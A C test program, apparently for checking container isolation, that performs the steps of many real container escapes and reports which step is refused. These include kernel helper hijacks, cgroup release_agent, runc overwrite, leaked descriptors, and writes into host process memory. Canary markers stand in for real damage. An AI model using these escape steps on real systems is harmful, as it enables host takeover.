// SPDX-License-Identifier: GPL-2.0
/*
 * escape OPERATION ARGUMENT...
 * escape batch
 *
 * The steps of real escapes from containers, until one is refused: the exit status is 0,
 * or the errno of that step. PROGRAM is what the kernel is supposed to run on the host,
 * by its path there. A batch has one operation per line, on standard input; each is made
 * by a child, and its errno is printed. The second half is the host's side: the processes
 * that are attacked, and runtimes with the mistakes that the escapes exploit.
 */
#include <arpa/inet.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/bpf.h>
#include <linux/fiemap.h>
#include <linux/fs.h>
#include <linux/if_alg.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define CANARY	    "canary"
#define REACHED	    "reached\n"
#define SECONDS_MAX 20
#define WORDS_MAX   12
/* Where the victim on the host has its canary. */
#define VICTIM_AT   ((char *)0x10000000)
#define VICTIM_FD   9
#define LOADER_SIZE 4096

struct operation {
	const char *name;
	int arguments;
	int (*run)(char **args);
};

static int number(const char *text)
{
	return strtol(text, NULL, 0);
}

static int result(long returned)
{
	return returned < 0 ? errno : 0;
}

static int wait_for(pid_t child)
{
	int status;

	if (child < 0 || waitpid(child, &status, 0) < 0)
		return errno;
	return WIFEXITED(status) ? WEXITSTATUS(status) : ETIMEDOUT;
}

static int write_fd(int fd, const char *text)
{
	ssize_t length = strlen(text), written;

	if (fd < 0)
		return errno;
	written = write(fd, text, length);
	return written < 0 ? errno : written == length ? 0 : EIO;
}

static int write_text(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	int err = write_fd(fd, text);

	if (fd >= 0)
		close(fd);
	return err;
}

static int write_below(const char *dir, const char *name, const char *text)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	return write_text(path, text);
}

static int mount_new(const char *from, const char *dir, const char *type, const char *options)
{
	if (mkdir(dir, 0755) && errno != EEXIST)
		return errno;
	return result(mount(from, dir, type, 0, options));
}

static int nothing(char **args)
{
	(void)args;
	return 0;
}

/* The events before this operation's belong to NAME. */
static int mark(char **args)
{
	char path[256];

	snprintf(path, sizeof(path), "/mark/%s", args[0]);
	return result(open(path, O_RDONLY));
}

static int write_file(char **args)
{
	return write_text(args[0], args[1]);
}

/* A file of the host that has a name here. */
static int hit(char **args)
{
	return write_text(args[0], REACHED);
}

static int unmount(char **args)
{
	return result(umount2(args[0], MNT_DETACH));
}

/* ----------------------------------------------- what the kernel runs on the host */

/* A crash runs the program in core_pattern. */
static int crash(void)
{
	pid_t child = fork();

	if (!child) {
		raise(SIGSEGV);
		_exit(0);
	}
	return child < 0 || waitpid(child, NULL, 0) < 0 ? errno : 0;
}

static int core_pattern(char **args)
{
	char text[256];

	snprintf(text, sizeof(text), "|%s", args[1]);
	return write_text(args[0], text) ?: crash();
}

static int fresh_procfs(char **args)
{
	char path[256];

	snprintf(path, sizeof(path), "%s/sys/kernel/core_pattern", args[0]);
	return mount_new("proc", args[0], "proc", NULL)
		       ?: core_pattern((char *[]){ path, args[1] });
}

/* An unknown family makes the kernel run modprobe. */
static int modprobe(char **args)
{
	int err = write_text("/proc/sys/kernel/modprobe", args[0]);

	if (!err)
		socket(AF_X25, SOCK_SEQPACKET, 0);
	return err;
}

static int uevent_helper(char **args)
{
	return write_text("/sys/kernel/uevent_helper", args[0])
		       ?: write_text("/sys/class/net/lo/uevent", "add");
}

static int binfmt(char **args)
{
	char text[256];

	snprintf(text, sizeof(text), ":escape:M::CANARY::%s:", args[1]);
	return mount_new("binfmt_misc", args[0], "binfmt_misc", NULL)
		       ?: write_below(args[0], "register", text);
}

/* CVE-2022-0492: the last process to leave a group runs its release_agent. */
static int notify_on_release(char **args)
{
	char group[256];
	pid_t child;
	int err;

	err = write_below(args[0], "release_agent", args[1]);
	if (err)
		return err;
	snprintf(group, sizeof(group), "%s/escape", args[0]);
	if (mkdir(group, 0755) && errno != EEXIST)
		return errno;
	err = write_below(group, "notify_on_release", "1");
	if (err)
		return err;
	child = fork();
	if (!child)
		_exit(write_below(group, "cgroup.procs", "0"));
	return wait_for(child);
}

/* release_agent DIR HIERARCHY PROGRAM */
static int release_agent(char **args)
{
	return mount_new("none", args[0], "cgroup", args[1])
		       ?: notify_on_release((char *[]){ args[0], args[2] });
}

static int release_agent_user_ns(char **args)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP))
		return errno;
	return write_text("/proc/self/uid_map", "0 0 1") ?: release_agent(args);
}

/* ------------------------------------------------------------- the host's devices */

static int read_canary(int fd, off_t offset)
{
	char text[sizeof(CANARY)] = "";

	if (fd < 0 || pread(fd, text, sizeof(CANARY) - 1, offset) < 0)
		return errno;
	return strcmp(text, CANARY) ? ENODATA : 0;
}

/* disk NODE OFFSET: the canary's position on the disk is known. */
static int disk(char **args)
{
	return read_canary(open(args[0], O_RDONLY), strtoll(args[1], NULL, 0));
}

/* mknod_disk NODE OFFSET MAJOR MINOR */
static int mknod_disk(char **args)
{
	if (mknod(args[0], S_IFBLK | 0600, makedev(number(args[2]), number(args[3]))))
		return errno;
	return disk(args);
}

/* mount_disk NODE DIR NAME: the filesystem that the host has its root on. */
static int mount_disk(char **args)
{
	char path[256];

	snprintf(path, sizeof(path), "%s/%s", args[1], args[2]);
	return mount_new(args[0], args[1], "ext4", NULL) ?: write_text(path, REACHED);
}

/* devices_allow GROUP NODE OFFSET MAJOR MINOR: the group may not use any device. */
static int devices_allow(char **args)
{
	return write_below(args[0], "devices.allow", "a") ?: mknod_disk(args + 1);
}

/* The firmware of the PC is always there. */
static int memory(char **args)
{
	char bytes[16];
	int fd;

	(void)args;
	if (mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)))
		return errno;
	fd = open("/tmp/mem", O_RDWR);
	return fd < 0 ? errno : result(pread(fd, bytes, sizeof(bytes), 0xf0000));
}

static int core_of_kernel(char **args)
{
	char bytes[64];
	int fd = open("/proc/kcore", O_RDONLY);

	(void)args;
	return fd < 0 ? errno : result(read(fd, bytes, sizeof(bytes)));
}

static int ports(char **args)
{
	(void)args;
	return result(iopl(3));
}

/* --------------------------------------------------------------- the host's kernel */

static int load_bpf(char **args)
{
	struct bpf_insn program[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr attr = {
		.prog_type = BPF_PROG_TYPE_KPROBE,
		.insns = (unsigned long)program,
		.insn_cnt = 2,
		.license = (unsigned long)"GPL",
	};

	(void)args;
	return result(syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr)));
}

/* Everything that happens on the host's first processor. */
static int perf(char **args)
{
	struct perf_event_attr attr = {
		.type = PERF_TYPE_SOFTWARE,
		.config = PERF_COUNT_SW_CPU_CLOCK,
		.size = sizeof(attr),
	};

	(void)args;
	return result(syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0));
}

static int module_file(char **args)
{
	int fd = open(args[0], O_RDONLY);

	return fd < 0 ? errno : result(syscall(SYS_finit_module, fd, "", 0));
}

static int module_bytes(char **args)
{
	int fd = open(args[0], O_RDONLY);
	struct stat stat;
	void *at;

	if (fd < 0 || fstat(fd, &stat))
		return errno;
	at = mmap(NULL, stat.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
	if (at == MAP_FAILED)
		return errno;
	return result(syscall(SYS_init_module, at, stat.st_size, ""));
}

#define KEXEC_FILE_UNLOAD	1
#define KEXEC_FILE_NO_INITRAMFS 4

static int kexec(char **args)
{
	int fd = open(args[0], O_RDONLY);

	if (fd < 0)
		return errno;
	return result(syscall(SYS_kexec_file_load, fd, -1, 1UL, "",
			      (unsigned long)KEXEC_FILE_NO_INITRAMFS));
}

static int kexec_unload(char **args)
{
	(void)args;
	return result(
		syscall(SYS_kexec_file_load, -1, -1, 0UL, NULL, (unsigned long)KEXEC_FILE_UNLOAD));
}

static int set_clock(char **args)
{
	struct timespec now;

	(void)args;
	clock_gettime(CLOCK_REALTIME, &now);
	return result(clock_settime(CLOCK_REALTIME, &now));
}

/* It shows addresses of the host, and what other containers did. */
static int read_log(char **args)
{
	char text[4096];

	(void)args;
	return result(klogctl(3, text, sizeof(text)));
}

/* A harmless setting that could end a host: whether Ctrl-Alt-Del reboots at once. */
static int reboot_host(char **args)
{
	return result(reboot(number(args[0]) ? RB_ENABLE_CAD : RB_DISABLE_CAD));
}

/* Everything that passes through the host's network. */
static int sniff(char **args)
{
	struct sockaddr_ll address = {
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_ALL),
		.sll_ifindex = 1,
	};
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	(void)args;
	return fd < 0 ? errno : result(bind(fd, (struct sockaddr *)&address, sizeof(address)));
}

/* CVE-2022-0185: creating a user namespace gives access to code that is for root. */
static int open_filesystem(char **args)
{
	int fd;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return errno;
	fd = syscall(SYS_fsopen, args[0], 0);
	return fd < 0 ? errno
		      : result(syscall(SYS_fsconfig, fd, 1 /* FSCONFIG_SET_STRING */, "size",
				       "4096", 0));
}

/*
 * CVE-2026-31431: a page of a file that is only readable is spliced into a decryption,
 * which wrote to it. A fixed kernel decrypts elsewhere, and then reports that the message
 * is not authentic; no confined task should get this far.
 */
static int alg_decrypts(int fd, int file)
{
	/* For authenc(): the length of the second key, and both keys. */
	static const unsigned char key[8 + 32 + 16] = { 8, 0, 1, 0, 0, 0, 0, 16 };
	char control[3 * CMSG_SPACE(4) + CMSG_SPACE(20)] = "", aad[8] = "";
	struct iovec vec = { aad, sizeof(aad) };
	struct msghdr message = {
		.msg_iov = &vec,
		.msg_iovlen = 1,
		.msg_control = control,
		.msg_controllen = CMSG_SPACE(4) + CMSG_SPACE(20) + CMSG_SPACE(4),
	};
	struct cmsghdr *item = CMSG_FIRSTHDR(&message);
	char out[4096];
	int fds[2], op;

	if (setsockopt(fd, SOL_ALG, ALG_SET_KEY, key, sizeof(key)) ||
	    setsockopt(fd, SOL_ALG, ALG_SET_AEAD_AUTHSIZE, NULL, 16))
		return errno;
	op = accept(fd, NULL, NULL);
	if (op < 0 || pipe(fds))
		return errno;
	*item = (struct cmsghdr){ CMSG_LEN(4), SOL_ALG, ALG_SET_OP };
	*(int *)CMSG_DATA(item) = ALG_OP_DECRYPT;
	item = CMSG_NXTHDR(&message, item);
	*item = (struct cmsghdr){ CMSG_LEN(20), SOL_ALG, ALG_SET_IV };
	*(int *)CMSG_DATA(item) = 16;
	item = CMSG_NXTHDR(&message, item);
	*item = (struct cmsghdr){ CMSG_LEN(4), SOL_ALG, ALG_SET_AEAD_ASSOCLEN };
	*(int *)CMSG_DATA(item) = sizeof(aad);
	if (sendmsg(op, &message, MSG_MORE) < 0 || splice(file, NULL, fds[1], NULL, 32, 0) < 0 ||
	    splice(fds[0], NULL, op, NULL, 32, 0) < 0)
		return errno;
	return read(op, out, sizeof(out)) < 0 && errno != EBADMSG ? errno : 0;
}

static int alg_open(const char *type, const char *name)
{
	struct sockaddr_alg address = { .salg_family = AF_ALG };
	int fd = socket(AF_ALG, SOCK_SEQPACKET, 0);

	snprintf((char *)address.salg_type, sizeof(address.salg_type), "%s", type);
	snprintf((char *)address.salg_name, sizeof(address.salg_name), "%s", name);
	return fd < 0 || bind(fd, (struct sockaddr *)&address, sizeof(address)) ? -1 : fd;
}

static int alg_splice(char **args)
{
	int file = open(args[0], O_RDONLY);
	int fd = file < 0 ? -1 : alg_open("aead", "authencesn(hmac(sha256),cbc(aes))");

	return fd < 0 ? errno : alg_decrypts(fd, file);
}

/* Any other way to the same code. */
static int alg(char **args)
{
	int fd = alg_open("hash", args[0]);

	return fd < 0 ? errno : result(accept(fd, NULL, NULL));
}

/* ---------------------------------------------------------------- the host's files */

/* handle FILE NAME: FILE is on the filesystem whose root is the host's. */
static int by_handle(char **args)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + 8];
	} root = { .handle = { .handle_bytes = 8, .handle_type = 1 } };
	int file = open(args[0], O_RDONLY), dir;

	if (file < 0)
		return errno;
	root.handle.f_handle[0] = 2; /* the inode of ext4's root */
	dir = open_by_handle_at(file, &root.handle, O_RDONLY | O_DIRECTORY);
	return dir < 0 ? errno : write_fd(openat(dir, args[1], O_WRONLY), REACHED);
}

/* CVE-2024-21626: a directory of the host is open, or is the current one. */
static int leaked(char **args)
{
	return write_fd(openat(number(args[0]), args[1], O_WRONLY), REACHED);
}

static int current_directory(char **args)
{
	return fchdir(number(args[0])) ? errno : write_text(args[1], REACHED);
}

static int leaked_read(char **args)
{
	return read_canary(openat(number(args[0]), args[1], O_RDONLY), 0);
}

/* swap NAME TARGET: the runtime is about to mount NAME, which becomes TARGET. */
static int swap(char **args)
{
	if ((unlink(args[0]) && errno != ENOENT) || symlink(args[1], args[0]))
		return errno;
	return 0;
}

/* CVE-2025-52881: the file that the runtime is about to write becomes another one. */
static int redirect_sysctl(char **args)
{
	return result(mount(args[0], args[1], NULL, MS_BIND, NULL));
}

static int redirect_label(char **args)
{
	int err = mount_new("proc", "/tmp/real", "proc", NULL)
			  ?: mount_new("tmpfs", "/proc", "tmpfs", NULL);

	if (!err && (mkdir("/proc/self", 0755) || mkdir("/proc/self/attr", 0755) ||
		     symlink(args[0], "/proc/self/attr/exec")))
		err = errno;
	return err;
}

/* ------------------------------------------------------------ the host's processes */

static socklen_t address_of(struct sockaddr_un *address, const char *name)
{
	*address = (struct sockaddr_un){ .sun_family = AF_UNIX };
	strncpy(address->sun_path, name, sizeof(address->sun_path) - 1);
	if (name[0] == '@')
		address->sun_path[0] = 0;
	return offsetof(struct sockaddr_un, sun_path) + strlen(name);
}

/* The server does what is requested, and then answers. */
static int request(char **args)
{
	struct sockaddr_un address;
	socklen_t length = address_of(&address, args[0]);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	char answer;

	if (fd < 0 || connect(fd, (struct sockaddr *)&address, length))
		return errno;
	return write_fd(fd, REACHED) ?: result(read(fd, &answer, 1));
}

/* The host's shell reads what is put into the terminal. */
static int terminal(char **args)
{
	const char *text = REACHED;

	for (; *text; text++)
		if (ioctl(number(args[0]), TIOCSTI, text))
			return errno;
	return 0;
}

/* Root's keys are the same in every user namespace. */
static int keyring(char **args)
{
	char text[16] = "";
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", args[0],
			   KEY_SPEC_PROCESS_KEYRING);

	if (key < 0 || syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof(text) - 1) < 0)
		return errno;
	return strcmp(text, CANARY) ? ENODATA : 0;
}

static int trace(char **args)
{
	pid_t pid = number(args[0]);
	long word;

	memcpy(&word, REACHED, sizeof(word));
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) || waitpid(pid, NULL, 0) < 0 ||
	    ptrace(PTRACE_POKEDATA, pid, VICTIM_AT, word))
		return errno;
	return result(ptrace(PTRACE_DETACH, pid, NULL, NULL));
}

static int vm_write(char **args)
{
	struct iovec from = { (void *)REACHED, sizeof(REACHED) - 1 };
	struct iovec to = { VICTIM_AT, sizeof(REACHED) - 1 };

	return result(process_vm_writev(number(args[0]), &from, 1, &to, 1, 0));
}

static int proc_mem(char **args)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/mem", args[0]);
	fd = open(path, O_RDWR);
	return fd < 0 ? errno : result(pwrite(fd, REACHED, sizeof(REACHED) - 1, (off_t)VICTIM_AT));
}

static int proc_root(char **args)
{
	char path[256];

	snprintf(path, sizeof(path), "/proc/%s/root%s", args[0], args[1]);
	return write_text(path, REACHED);
}

static int proc_fd(char **args)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%s/fd/%d", args[0], VICTIM_FD);
	return write_text(path, REACHED);
}

static int steal_fd(char **args)
{
	int pidfd = syscall(SYS_pidfd_open, number(args[0]), 0);

	return pidfd < 0 ? errno : write_fd(syscall(SYS_pidfd_getfd, pidfd, VICTIM_FD, 0), REACHED);
}

static int enter_path(char **args)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/ns/mnt", args[0]);
	fd = open(path, O_RDONLY);
	if (fd < 0 || setns(fd, CLONE_NEWNS))
		return errno;
	return write_text(args[1], REACHED);
}

/* enter_before CANARY: each mount namespace that was made earlier, back to the first one. */
static int enter_before(char **args)
{
	uint64_t info[2] = { sizeof(info) };
	int fd = open("/proc/self/ns/mnt", O_RDONLY), last;

	while (fd >= 0) {
		last = fd;
		fd = ioctl(last, _IOC(_IOC_READ, 0xb7, 12, sizeof(info)), info);
		if (fd >= 0 && !setns(fd, CLONE_NEWNS) && !write_text(args[0], REACHED))
			return 0;
	}
	return errno;
}

static int enter_pidfd(char **args)
{
	int pidfd = syscall(SYS_pidfd_open, number(args[0]), 0);

	if (pidfd < 0 || setns(pidfd, CLONE_NEWNS))
		return errno;
	return write_text(args[1], REACHED);
}

static int signal_victim(char **args)
{
	return result(kill(number(args[0]), SIGUSR1));
}

/* --------------------------------------------- CVE-2019-5736, within the container */

/*
 * Write to the file of descriptor FD once no process runs it any more, and write the
 * outcome to RESULT. The caller does not wait for this.
 */
static int overwrite(char **args)
{
	char path[64], text[16];
	int err, tries = 0;

	if (fork())
		return 0;
	snprintf(path, sizeof(path), "/proc/self/fd/%s", args[0]);
	do {
		err = write_text(path, REACHED);
	} while (err == ETXTBSY && tries++ < 300 && !usleep(10000));
	snprintf(text, sizeof(text), "%d", err);
	return write_fd(open(args[1], O_WRONLY | O_CREAT, 0644), text);
}

/* watch NAME RESULT: wait for a program NAME to run here, and overwrite it. */
static int watch(char **args)
{
	char path[64], comm[32], fd_text[16];
	int pid, fd, tries;

	if (fork())
		return 0;
	alarm(5);
	for (tries = 0; tries < 1000; tries++, usleep(2000)) {
		for (pid = getpid() + 1; pid < getpid() + 20; pid++) {
			snprintf(path, sizeof(path), "/proc/%d/comm", pid);
			memset(comm, 0, sizeof(comm));
			fd = open(path, O_RDONLY);
			if (fd < 0)
				continue;
			if (read(fd, comm, sizeof(comm) - 1) < 0)
				comm[0] = 0;
			close(fd);
			comm[strcspn(comm, "\n")] = 0;
			if (strcmp(comm, args[0]))
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_PATH);
			if (fd < 0)
				return errno;
			snprintf(fd_text, sizeof(fd_text), "%d", fd);
			return overwrite((char *[]){ fd_text, args[1] });
		}
	}
	return ETIMEDOUT;
}

/*
 * A loader that keeps a descriptor of the program that it should load, and executes
 * "/escape overwrite 3 /tmp/overwrite". It is position independent and self-contained.
 */
__asm__(".pushsection .rodata\n"
	"loader_begin:\n"
	"	mov	$257, %eax\n" /* openat */
	"	mov	$-100, %edi\n"
	"	lea	3f(%rip), %rsi\n"
	"	mov	$0x200000, %edx\n" /* O_PATH */
	"	syscall\n"
	"	mov	%eax, %edi\n"
	"	mov	$33, %eax\n" /* dup2 */
	"	mov	$50, %esi\n"
	"	syscall\n"
	"	xor	%edx, %edx\n"
	"	push	%rdx\n"
	"	lea	7f(%rip), %rax\n"
	"	push	%rax\n"
	"	lea	6f(%rip), %rax\n"
	"	push	%rax\n"
	"	lea	5f(%rip), %rax\n"
	"	push	%rax\n"
	"	lea	4f(%rip), %rdi\n"
	"	push	%rdi\n"
	"	mov	%rsp, %rsi\n"
	"	mov	$59, %eax\n" /* execve */
	"	syscall\n"
	"	mov	%eax, %edi\n"
	"	neg	%edi\n"
	"	mov	$60, %eax\n" /* exit */
	"	syscall\n"
	"3:	.asciz	\"/proc/self/exe\"\n"
	"4:	.asciz	\"/escape\"\n"
	"5:	.asciz	\"overwrite\"\n"
	"6:	.asciz	\"50\"\n"
	"7:	.asciz	\"/tmp/overwrite\"\n"
	"loader_end:\n"
	".popsection\n");

extern const char loader_begin[], loader_end[];

/* loader FILE: write it, as a shared object of one segment, which fills its page. */
static int make_loader(char **args)
{
	const size_t length = loader_end - loader_begin;
	const struct {
		Elf64_Ehdr file;
		Elf64_Phdr segment;
	} header = {
		.file = {
			.e_ident = { ELFMAG0, ELFMAG1, ELFMAG2, ELFMAG3, ELFCLASS64,
				     ELFDATA2LSB, EV_CURRENT },
			.e_type = ET_DYN, .e_machine = EM_X86_64, .e_version = EV_CURRENT,
			.e_entry = sizeof(header), .e_phoff = sizeof(header.file),
			.e_ehsize = sizeof(header.file),
			.e_phentsize = sizeof(header.segment), .e_phnum = 1,
		},
		.segment = {
			.p_type = PT_LOAD, .p_flags = PF_R | PF_X,
			.p_filesz = LOADER_SIZE, .p_memsz = LOADER_SIZE, .p_align = LOADER_SIZE,
		},
	};
	int fd = open(args[0], O_WRONLY | O_CREAT | O_TRUNC, 0755);

	if (fd < 0 || write(fd, &header, sizeof(header)) < 0 || write(fd, loader_begin, length) < 0)
		return errno;
	return result(ftruncate(fd, LOADER_SIZE));
}

/* -------------------------------------------------------------------- on the host */

static int enter_namespaces(const char *pid, const char *const *names)
{
	char path[64];
	int fd;

	for (; *names; names++) {
		snprintf(path, sizeof(path), "/proc/%s/ns/%s", pid, *names);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0 || setns(fd, 0))
			return errno;
		close(fd);
	}
	return 0;
}

/*
 * runtime PID PROGRAM: the exec of a runtime that does not protect its own binary. It has
 * a child in the container that executes PROGRAM, and waits for nothing.
 */
static int runtime(char **args)
{
	static const char *const names[] = { "ipc", "uts", "net", "pid", "mnt", NULL };
	int fds[2], err = enter_namespaces(args[0], names);
	unsigned char code = 0;
	pid_t child;

	if (err)
		return err;
	if (pipe2(fds, O_CLOEXEC))
		return errno;
	child = fork();
	if (!child) {
		execv(args[1], (char *[]){ args[1], NULL });
		code = errno;
		_exit(write(fds[1], &code, 1) != 1);
	}
	close(fds[1]);
	return child < 0 || read(fds[0], &code, 1) < 0 ? errno : code;
}

/*
 * runtime_masks PID FROM TO: a runtime hides TO by mounting FROM over it, without
 * checking what FROM is: CVE-2025-31133 and, where TO is the console, CVE-2025-52565.
 */
static int runtime_masks(char **args)
{
	static const char *const names[] = { "mnt", NULL };

	return enter_namespaces(args[0], names)
		       ?: result(mount(args[1], args[2], NULL, MS_BIND, NULL));
}

/* runtime_writes PID FILE TEXT: a setting for the container, or its security label. */
static int runtime_writes(char **args)
{
	static const char *const names[] = { "mnt", NULL };

	return enter_namespaces(args[0], names) ?: write_text(args[1], args[2]);
}

/* where FILE: print its position on the disk. */
static int where(char **args)
{
	union {
		struct fiemap map;
		char room[sizeof(struct fiemap) + sizeof(struct fiemap_extent)];
	} map = {
		.map = { .fm_length = ~0ULL, .fm_flags = FIEMAP_FLAG_SYNC, .fm_extent_count = 1 }
	};
	int fd = open(args[0], O_RDONLY);

	if (fd < 0 || fsync(fd) || ioctl(fd, FS_IOC_FIEMAP, &map))
		return errno;
	if (!map.map.fm_mapped_extents)
		return ENODATA;
	printf("%llu\n", (unsigned long long)map.map.fm_extents[0].fe_physical);
	return 0;
}

static void victim_is_hit(int signal)
{
	(void)signal;
	memcpy(VICTIM_AT, REACHED, sizeof(REACHED) - 1);
}

/* victim FILE: a process of the host, with FILE in its memory and open. */
static int victim(char **args)
{
	int fd = open(args[0], O_RDWR);

	alarm(0);
	if (fd < 0 || dup2(fd, VICTIM_FD) < 0)
		return errno;
	if (mmap(VICTIM_AT, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, fd, 0) ==
	    MAP_FAILED)
		return errno;
	signal(SIGUSR1, victim_is_hit);
	puts("ready");
	fflush(stdout);
	for (;;)
		pause();
}

static int add_key(char **args)
{
	return result(syscall(SYS_add_key, "user", args[0], CANARY, strlen(CANARY),
			      KEY_SPEC_USER_KEYRING));
}

/* serve ADDRESS FILE: write to FILE what is requested. */
static int serve(char **args)
{
	struct sockaddr_un address;
	socklen_t length = address_of(&address, args[0]);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0), peer;
	char text[64];
	ssize_t got;

	alarm(0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&address, length) || listen(fd, 8))
		return errno;
	puts("ready");
	fflush(stdout);
	while ((peer = accept(fd, NULL, NULL)) >= 0) {
		got = read(peer, text, sizeof(text) - 1);
		if (got > 0) {
			text[got] = 0;
			write_text(args[1], text);
			write_fd(peer, "!");
		}
		close(peer);
	}
	return errno;
}

/* shell FILE: print the name of a new terminal; a line typed there is written to FILE. */
static int shell(char **args)
{
	int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC), slave;
	char line[64], *name;
	ssize_t got;

	alarm(0);
	if (master < 0 || grantpt(master) || unlockpt(master))
		return errno;
	name = ptsname(master);
	if (setsid() < 0)
		return errno;
	slave = open(name, O_RDWR);
	if (slave < 0)
		return errno;
	puts(name);
	fflush(stdout);
	while ((got = read(slave, line, sizeof(line) - 1)) > 0) {
		line[got] = 0;
		write_text(args[0], line);
	}
	return 0;
}

static const struct operation operations[] = {
	{ "true", 0, nothing },
	{ "mark", 1, mark },
	{ "write", 2, write_file },
	{ "hit", 1, hit },
	{ "umount", 1, unmount },

	{ "core_pattern", 2, core_pattern },
	{ "fresh_procfs", 2, fresh_procfs },
	{ "modprobe", 1, modprobe },
	{ "uevent_helper", 1, uevent_helper },
	{ "binfmt", 2, binfmt },
	{ "notify_on_release", 2, notify_on_release },
	{ "release_agent", 3, release_agent },
	{ "release_agent_user_ns", 3, release_agent_user_ns },

	{ "disk", 2, disk },
	{ "mknod_disk", 4, mknod_disk },
	{ "mount_disk", 3, mount_disk },
	{ "devices_allow", 5, devices_allow },
	{ "memory", 0, memory },
	{ "kcore", 0, core_of_kernel },
	{ "ports", 0, ports },

	{ "bpf", 0, load_bpf },
	{ "perf", 0, perf },
	{ "module_file", 1, module_file },
	{ "module_bytes", 1, module_bytes },
	{ "kexec", 1, kexec },
	{ "kexec_unload", 0, kexec_unload },
	{ "clock", 0, set_clock },
	{ "log", 0, read_log },
	{ "reboot", 1, reboot_host },
	{ "sniff", 0, sniff },
	{ "open_filesystem", 1, open_filesystem },
	{ "alg", 1, alg },
	{ "alg_splice", 1, alg_splice },

	{ "handle", 2, by_handle },
	{ "leaked", 2, leaked },
	{ "leaked_read", 2, leaked_read },
	{ "cwd", 2, current_directory },
	{ "swap", 2, swap },
	{ "redirect_sysctl", 2, redirect_sysctl },
	{ "redirect_label", 1, redirect_label },

	{ "request", 1, request },
	{ "terminal", 1, terminal },
	{ "keyring", 1, keyring },
	{ "trace", 1, trace },
	{ "vm_write", 1, vm_write },
	{ "proc_mem", 1, proc_mem },
	{ "proc_root", 2, proc_root },
	{ "proc_fd", 1, proc_fd },
	{ "steal_fd", 1, steal_fd },
	{ "enter_path", 2, enter_path },
	{ "enter_pidfd", 2, enter_pidfd },
	{ "enter_before", 1, enter_before },
	{ "signal", 1, signal_victim },

	{ "overwrite", 2, overwrite },
	{ "watch", 2, watch },

	{ "loader", 1, make_loader },
	{ "runtime", 2, runtime },
	{ "runtime_masks", 3, runtime_masks },
	{ "runtime_writes", 3, runtime_writes },
	{ "where", 1, where },
	{ "victim", 1, victim },
	{ "add_key", 1, add_key },
	{ "serve", 2, serve },
	{ "shell", 1, shell },
};

static int perform(int count, char **words)
{
	const struct operation *end = operations + sizeof(operations) / sizeof(operations[0]);
	const struct operation *operation;

	for (operation = operations; operation < end; operation++)
		if (count == operation->arguments + 1 && !strcmp(words[0], operation->name))
			return operation->run(words + 1);
	fprintf(stderr, "escape: no such operation with %d arguments\n", count - 1);
	return EINVAL;
}

static void batch_line(char *line)
{
	char *words[WORDS_MAX], *rest = NULL;
	int count = 0;
	pid_t child;

	for (words[0] = strtok_r(line, " \n", &rest); words[count] && count < WORDS_MAX - 1;)
		words[++count] = strtok_r(NULL, " \n", &rest);
	if (!count)
		return;
	child = fork();
	if (!child) {
		alarm(SECONDS_MAX);
		_exit(perform(count, words));
	}
	dprintf(STDOUT_FILENO, "%d\n", wait_for(child));
}

int main(int argc, char **argv)
{
	char *line = NULL;
	size_t room = 0;

	signal(SIGPIPE, SIG_IGN);
	if (argc == 2 && !strcmp(argv[1], "batch")) {
		while (getline(&line, &room, stdin) > 0)
			batch_line(line);
		return 0;
	}
	/* A runtime that was started as #!/proc/self/exe takes some time to detect that. */
	if (argc < 3)
		usleep(200000);
	alarm(SECONDS_MAX);
	return argc < 2 ? EINVAL : perform(argc - 1, argv + 1);
}
